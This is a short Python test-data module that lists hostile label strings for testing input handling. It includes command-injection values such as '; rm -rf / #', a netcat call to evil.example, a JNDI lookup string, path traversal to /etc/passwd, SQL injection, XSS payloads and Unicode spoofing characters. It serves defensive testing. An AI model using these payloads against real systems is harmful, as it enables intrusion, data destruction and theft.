"""What a label says when it is written by somebody who means harm."""

PLAIN = (
    "$(systemctl reboot)",
    "`reboot`",
    "; rm -rf / #",
    "| nc evil.example 1 &",
    "nginx.service --force",
    "--force",
    "-oProxyCommand=reboot",
    "../../../etc/passwd",
    "/var/lib/hale-healer/journal.db",
    "..\\..\\windows",
    "{{ .ExternalURL }}",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x",
    "%0d%0aSet-Cookie:a=b",
    "' OR 1=1; DROP TABLE events; --",
    'nginx"} or vector(1) #',
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "NaN",
    "null",
    "web1,web2",
    "web1 ",
    " web1",
    "WEB1",
    "ｗｅｂ１",  # noqa: RUF001  # full width
    "wеb1",  # noqa: RUF001  # a Cyrillic letter
    "web1" * 200,
)
"""Of printable characters only, so that a label may have it."""

ODD = (
    "web1\n",
    "web1\r\nlevel=error event=incident.opened",
    "web1\x00",
    "\x1b[2J\x1b[1;1Hall is well",
    "\x9b2J",
    "web1\u200b",
    "\u202egnp.1bew",
    "\u2066web1\u2069",
    "web1\u2028web2",
    "\ufeffweb1",
    "web1\ufffe",
    "\U000e0077eb1",
    "we\u0301b1\u200d",
    "",
)
"""With characters that no label of ours has."""

HOSTILE = PLAIN + ODD
